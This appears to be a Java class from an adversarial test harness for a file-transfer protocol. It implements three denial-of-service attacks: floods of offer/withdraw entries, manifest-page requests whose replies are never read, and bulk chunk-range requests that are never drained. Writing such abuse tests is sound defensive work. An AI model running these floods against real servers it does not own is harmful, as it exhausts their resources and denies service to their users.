package io.landline.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import io.landline.frame.Frame;
import io.landline.frame.FrameType;
import io.landline.frame.FrameWriter;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/// Frames about files. People take turns in three ways to do harm: offers and withdrawals by the thousand; pages of
/// the victim's manifest that are asked for and never read; chunks that are asked for on three bulk connections and
/// never read.
///
/// @param chunksAlone whether all do the third
record FileFrames(int people, boolean chunksAlone) implements Attack {
    private static final Duration STEP = Duration.ofMillis(50);
    private static final Duration LOOK = Duration.ofSeconds(1);
    private static final int PAGES_PER_SECOND = 900;
    private static final int PAIRS_A_FRAME = 150;
    private static final int BULK_MAX = 3;
    private static final int CHUNKS_MAX = 512;
    private static final int WAYS = 3;
    private static final Pattern TOKEN = Pattern.compile("\"token\":\"([0-9a-f]{32})\"");
    private static final byte[] OFFER = "{\"files\":1,\"bytes\":1000000,\"names\":[\"holiday.jpg\"],\"chunk\":1048576}"
            .getBytes(UTF_8);

    @Override
    public void run(Target target, Runnable begun) throws InterruptedException {
        var way = new AtomicInteger();
        Crowd.run(target, people, begun, session -> {
            switch (chunksAlone ? WAYS - 1 : way.getAndIncrement() % WAYS) {
                case 0 -> offerAndWithdraw(target, session);
                case 1 -> askForPages(target, session);
                default -> askForChunks(target, session);
            }
        });
    }

    private static void offerAndWithdraw(Target target, HostileSession session) throws IOException {
        var log = new HostileLog(session.identity, target.conversation(), ThreadLocalRandom.current().nextLong());
        while (true) {
            var run = new ArrayList<byte[]>();
            for (int i = 0; i < PAIRS_A_FRAME; i++) {
                run.add(log.next(HostileLog.OFFER, OFFER));
                String offer = HexFormat.of().formatHex(log.newestHash(), 0, 16);
                run.add(log.next(HostileLog.WITHDRAWN, ("{\"offer\":\"" + offer + "\"}").getBytes(UTF_8)));
            }
            session.send(FrameType.ENTRIES, HostileLog.frame(target.conversation(), run));
        }
    }

    private static void askForPages(Target target, HostileSession session) throws IOException, InterruptedException {
        session.send(FrameType.ACCEPT, "{\"offer\":\"" + target.offer() + "\"}");
        session.readNoMore();
        var pages = new FrameBeat(PAGES_PER_SECOND);
        while (session.isOpen()) {
            for (int i = pages.due(); i > 0; i--) {
                session.send(FrameType.MANIFEST_REQUEST, "{\"offer\":\"" + target.offer() + "\",\"page\":0}");
            }
            Thread.sleep(STEP);
        }
    }

    private static void askForChunks(Target target, HostileSession session) throws IOException, InterruptedException {
        var bulk = new ArrayList<FrameWriter>();
        session.hear(frame -> openBulk(session, frame, bulk));
        session.send(FrameType.ACCEPT, "{\"offer\":\"" + target.offer() + "\"}");
        for (int i = 1; i <= BULK_MAX; i++) session.send(FrameType.BULK_TOKEN_REQUEST, "{\"request\":" + i + "}");
        while (session.isOpen()) {
            Thread.sleep(LOOK);
            List<FrameWriter> open;
            synchronized (bulk) {
                open = List.copyOf(bulk);
                bulk.clear(); // once on each: more than 512 chunks would end it
            }
            for (FrameWriter each : open) {
                each.write(new Frame(FrameType.RANGE_REQUEST, range(target, session)));
                each.flush();
            }
        }
    }

    private static void openBulk(HostileSession session, Frame frame, List<FrameWriter> bulk) {
        if (frame.type() != FrameType.BULK_TOKEN) return;
        Matcher matcher = TOKEN.matcher(new String(frame.body(), UTF_8));
        if (!matcher.find()) return;
        try {
            FrameWriter opened = session.openBulk(matcher.group(1));
            synchronized (bulk) {
                bulk.add(opened);
            }
        } catch (IOException e) {
            // no place for it: that is the victim's right
        }
    }

    /// The name of the transfer to this session's person, 16 digits.
    static String transfer(Target target, HostileSession session) {
        byte[] receiver = HostileLog.sha256(session.identity.publicKey());
        ByteBuffer both = ByteBuffer.allocate(16 + receiver.length)
                .put(HexFormat.of().parseHex(target.offer()))
                .put(receiver);
        return HexFormat.of().formatHex(HostileLog.sha256(both.array()), 0, 8);
    }

    /// The first chunks of each file, whichever of them is large.
    private static byte[] range(Target target, HostileSession session) {
        byte[] transfer = HexFormat.of().parseHex(transfer(target, session));
        return ByteBuffer.allocate(16).put(transfer).putInt(0).putInt(CHUNKS_MAX).array();
    }
}
